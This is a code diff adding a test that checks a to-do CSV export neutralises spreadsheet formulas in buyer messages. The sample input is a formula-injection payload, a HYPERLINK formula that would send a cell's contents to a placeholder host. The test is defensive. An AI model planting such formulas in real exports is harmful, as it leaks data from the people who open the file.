@@ -128,3 +128,12 @@ describe('todoCsv', () => {
     expect(todoCsv([])).toBe('\uFEFFid,title,questions,answer,keywords,category,tags,count,urgency\r\n');
   });
 });
+
+describe('spreadsheet safety', () => {
+  it('a buyer message that looks like a formula is never a formula in the to-do CSV', () => {
+    const r = sampleReport({ id: '00000000-0000-4000-8000-00000000f001', question: '=HYPERLINK("http://x/?"&B2,"点我")', suggestions: [] });
+    const csv = todoCsv(todoRows([r]));
+    const cells = parseCsv(csv.replace(/^\uFEFF/, '')).slice(1).flat();
+    expect(cells.some((c) => /^[=+\-@]/.test(c))).toBe(false);
+  });
+});
